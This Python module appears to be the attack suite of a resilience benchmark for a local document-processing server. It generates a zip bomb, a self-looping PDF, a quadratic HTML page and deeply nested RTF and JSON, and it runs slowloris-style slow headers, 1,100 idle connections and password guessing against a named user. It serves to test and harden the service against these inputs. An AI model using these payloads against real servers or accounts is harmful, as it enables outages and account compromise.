"""What somebody hands in to stop a server: files that cost much, and connections that wait."""

from __future__ import annotations

import asyncio
import io
import random
import zipfile
from collections.abc import Awaitable, Callable
from functools import cache
from typing import Any, NamedTuple

import httpx

from bench.attacks.corruption import hard_text
from bench.attacks.serving import docx_of

FROM = "127.0.9.9"  # somebody else's address than that of people at work
IDLE_CONNECTIONS = 1_100
SLOW_CONNECTIONS = 200
HELD_SECONDS = 45.0
WRONG_PASSWORDS = 120


class Target(NamedTuple):
    """Whom to attack, and as whom."""

    client: httpx.AsyncClient
    port: int
    victim: str  # the name of somebody who works


Answer = dict[str, Any]  # what was answered, and the job that came of it
Attack = Callable[[Target], Awaitable[Answer]]


async def _sent(target: Target, path: str, name: str, data: bytes, **parts: Any) -> Answer:
    files = [("file", (name, data)), *((key, value) for key, value in parts.items())]
    answer = await target.client.post(path, files=files)
    job = answer.json().get("job") if answer.status_code == 202 else None
    return {"answer": answer.status_code, "job": job}


# Files


@cache
def long_word() -> bytes:
    """300 kB without a blank, with one character that nobody sees."""
    return ("\u200b" + "a" * 300_000).encode()


@cache
def inflating_relations() -> bytes:
    """Little over a kilobyte of DOCX whose list of parts is a megabyte of beginnings."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr("_rels/.rels", "<relationship " * 75_000)
    return made.getvalue()


@cache
def zip_bomb() -> bytes:
    """A Word document of 700 MB that is packed into less than one."""
    made = io.BytesIO()
    block = b" " * (1 << 20)
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        with zipfile.ZipFile(io.BytesIO(docx_of("steppe"))) as sound:
            for part in sound.namelist():
                if not part.endswith("document.xml"):
                    file.writestr(part, sound.read(part))
        with file.open("word/document.xml", "w", force_zip64=True) as body:
            for _ in range(700):
                body.write(block)
    return made.getvalue()


@cache
def quadratic_page() -> bytes:
    """Elements that open and never close, in and around each other."""
    return (
        b"<html><body>" + b"<noscript>" * 9_000 + b"<table><tr><td>" * 6_000 + b"<a href='" * 9_000
    )


@cache
def looping_pdf() -> bytes:
    """Pages that are their own parents, and a form that draws itself."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 99999999/Parent 2 0 R>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents[5 0 R 5 0 R]"
        b"/Resources<</XObject<</X 4 0 R>>/Font 2 0 R>>>>",
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Length 60>>"
        b"stream\n" + b"/X Do " * 10 + b"\nendstream",
        b"<</Length 6>>stream\n/X Do \nendstream",
    ]
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj" % number + content + b"endobj\n"
    table = len(made)
    made += b"xref\n0 6\n0000000000 65535 f \n"
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer<</Root 1 0 R/Size 6/Prev %d>>startxref\n%d\n%%%%EOF" % (table, table)
    return bytes(made)


@cache
def nested_rtf() -> bytes:
    return b"{\\rtf1 " + b"{\\b " * 1_000_000 + b"steppe" + b"}" * 1_000_000


@cache
def look_alike_soup() -> bytes:
    """300 kB of letters from several alphabets in every word."""
    dice, made = random.Random(3), ""
    while len(made) < 150_000:
        made += hard_text(dice)[:2_000] + " сtеppе аnd ѕkу "
    return made[:150_000].encode()


async def wide_table(target: Target) -> Answer:
    """A table of metadata of 28 MB beside a small file."""
    return await _sent(target, "/documents", "a.txt", b"steppe and sky", table=("t.csv", _table()))


@cache
def _table() -> bytes:
    row = b"essay-%d.txt," + b",".join([b'"a""b"'] * 40) + b"\n"
    head = b"file," + b",".join(b"column%d" % i for i in range(40)) + b"\n"
    return head + b"".join(row % i for i in range(28_000_000 // 300))


async def deep_json(target: Target) -> Answer:
    """A request of nothing but brackets."""
    depth = 100_000
    body = b'{"ids":' + b"[" * depth + b"]" * depth + b"}"
    head = {"Content-Type": "application/json"}
    answer = await target.client.post("/documents/delete", content=body, headers=head)
    return {"answer": answer.status_code, "job": None}


# Connections


async def idle_connections(target: Target) -> Answer:
    """A thousand and more that say nothing."""
    opened = await _open_many(target, IDLE_CONNECTIONS)
    await asyncio.sleep(HELD_SECONDS)
    return {"answer": f"{len(opened)} opened", "still": await _close(opened), "job": None}


async def slow_headers(target: Target) -> Answer:
    """Many that say a letter of a header now and then."""
    opened = await _open_many(target, SLOW_CONNECTIONS)
    for _, writer in opened:
        writer.write(b"GET /api/v1/documents HTTP/1.1\r\nHost: here\r\nX-Slow: ")
    for _ in range(int(HELD_SECONDS / 3)):
        for _, writer in opened:
            if not writer.is_closing():
                writer.write(b"a")
        await asyncio.sleep(3)
    return {"answer": f"{len(opened)} opened", "still": await _close(opened), "job": None}


Opened = list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]


async def _open_many(target: Target, number: int) -> Opened:
    opened: Opened = []
    for _ in range(number):
        try:
            connecting = asyncio.open_connection("127.0.0.1", target.port, local_addr=(FROM, 0))
            opened.append(await asyncio.wait_for(connecting, 5))
        except (OSError, TimeoutError):
            break
    return opened


async def _close(opened: Opened) -> int:
    """End them; how many the server had not ended before."""
    still = 0
    for reader, writer in opened:
        try:
            is_ended = await asyncio.wait_for(reader.read(1 << 16), 0.001) is not None
        except (TimeoutError, OSError):
            is_ended = False
        still += not is_ended
        writer.close()
    return still


async def wrong_passwords(target: Target) -> Answer:
    """Guesses at somebody's password, who works meanwhile."""
    answers: dict[str, int] = {}
    transport = httpx.AsyncHTTPTransport(local_address=FROM)
    async with httpx.AsyncClient(base_url=target.client.base_url, transport=transport) as client:

        async def guess(number: int) -> None:
            try:
                given = {"name": target.victim, "password": f"summer{number}"}
                answer = await client.post("/token", json=given, timeout=HELD_SECONDS)
                key = str(answer.status_code)
            except httpx.HTTPError as error:
                key = type(error).__name__
            answers[key] = answers.get(key, 0) + 1

        for first in range(0, WRONG_PASSWORDS, 4):
            await asyncio.gather(*(guess(first + i) for i in range(4)))
            if "200" in answers:
                break
    return {"answer": " ".join(f"{n} × {key}" for key, n in answers.items()), "job": None}


class Hostile(NamedTuple):
    """One thing that is tried; what it did before it was mended, where that is known."""

    attack: Attack
    before: str = ""
    made: Callable[[], bytes] | None = None  # the file, which is made once


def _upload(path: str, name: str, made: Callable[[], bytes], before: str = "") -> Hostile:
    async def attack(target: Target) -> Answer:
        return await _sent(target, path, name, made())

    return Hostile(attack, before, made)


ATTACKS: dict[str, Hostile] = {
    "one long word with a zero-width character": _upload(
        "/checks", "word.txt", long_word, "both workers hung, health said ok"
    ),
    "inflating relationships in a DOCX": _upload(
        "/documents", "relations.docx", inflating_relations, "the server stood for 25 s"
    ),
    "wrong passwords for somebody's name": Hostile(wrong_passwords, "the name was locked"),
    "zip bomb": _upload("/documents", "bomb.docx", zip_bomb),
    "1,100 idle connections": Hostile(idle_connections, "nobody was answered"),
    "28 MB of metadata table": Hostile(wide_table, "others waited 21 s", _table),
    "quadratic web page": _upload("/checks", "page.html", quadratic_page, "10 s for 90 kB"),
    "PDF in a loop": _upload("/checks", "loop.pdf", looping_pdf),
    "deep JSON": Hostile(deep_json),
    "deeply nested RTF": _upload("/checks", "deep.rtf", nested_rtf),
    "slow headers": Hostile(slow_headers),
    "look-alike letters": _upload("/checks", "soup.txt", look_alike_soup),
}


def prepare(names: list[str]) -> None:
    """Make the files beforehand: the bomb takes a while, and people are to be measured alone."""
    for name in names:
        made = ATTACKS[name].made
        if made is not None:
            made()
